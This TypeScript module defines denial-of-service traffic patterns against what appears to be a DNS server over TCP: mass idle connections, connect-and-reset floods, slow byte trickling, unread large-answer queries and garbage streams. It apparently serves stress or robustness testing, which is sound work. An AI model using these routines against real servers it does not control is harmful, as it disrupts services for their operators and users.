import type { Attack, Target } from './attack.ts';
import { connectFromAnywhere, keepGoing } from './connections.ts';
import { garbage, largeAnswer, realName, type PacketMaker } from './packets.ts';

/** More than a member keeps. */
const MANY = 12_000;
const SLOW = 2_000;
const AT_ONCE = 200;

/** Connections that say nothing, or ask once and then say nothing. */
export const manyConnections: Attack = (target, inPlace) =>
  keepGoing(target, inPlace, MANY, () => {
    const socket = connectFromAnywhere(target);
    if (Math.random() < 0.5) socket.write(framed(realName, target));
    return socket.resume();
  });

/** Connections that are made and ended at once, by FIN or RST, some with a query. */
export const connectionFlood: Attack = (target, inPlace) =>
  keepGoing(target, inPlace, AT_ONCE, () => {
    const socket = connectFromAnywhere(target).resume();
    socket.once('connect', () => {
      const draw = Math.random();
      if (draw < 0.3) socket.resetAndDestroy();
      else if (draw < 0.6) socket.end();
      else socket.end(framed(realName, target));
    });
    return socket;
  });

/** Clients that send an octet now and then, and never a whole query. */
export const trickle: Attack = (target, inPlace) =>
  keepGoing(target, inPlace, SLOW, () => {
    const socket = connectFromAnywhere(target).resume();
    // Of the longest message there is.
    const octets = Buffer.from([0xff, 0xff, ...framed(realName, target).subarray(2)]);
    let sent = 0;
    const timer = setInterval(() => socket.write(Buffer.of(octets[sent++ % octets.length] ?? 0)), 200);
    socket.once('close', () => clearInterval(timer));
    return socket;
  });

/** Clients that ask for large answers, again and again, and read none. */
export const unreadAnswers: Attack = (target, inPlace) =>
  keepGoing(target, inPlace, SLOW, () => {
    const socket = connectFromAnywhere(target).pause();
    const queries = Buffer.concat(Array.from({ length: 100 }, () => framed(largeAnswer, target)));
    const ask = (): void => {
      if (socket.write(queries)) setImmediate(ask);
    };
    socket.once('connect', ask).on('drain', ask);
    return socket;
  });

/** Whatever comes to mind, framed or not. */
export const garbageStreams: Attack = (target, inPlace) =>
  keepGoing(target, inPlace, AT_ONCE, () => {
    const socket = connectFromAnywhere(target).resume();
    socket.once('connect', () => {
      const packets = Array.from({ length: 20 }, () => framed(garbage, target));
      socket.write(Buffer.concat(packets).subarray(Math.random() < 0.5 ? 0 : 1));
      setTimeout(() => socket.end(), 100);
    });
    return socket;
  });

function framed(make: PacketMaker, target: Target): Buffer {
  const bytes = new Uint8Array(2 + 512);
  const length = make(bytes.subarray(2), target.names);
  bytes[0] = length >>> 8;
  bytes[1] = length;
  return Buffer.from(bytes.subarray(0, 2 + length));
}
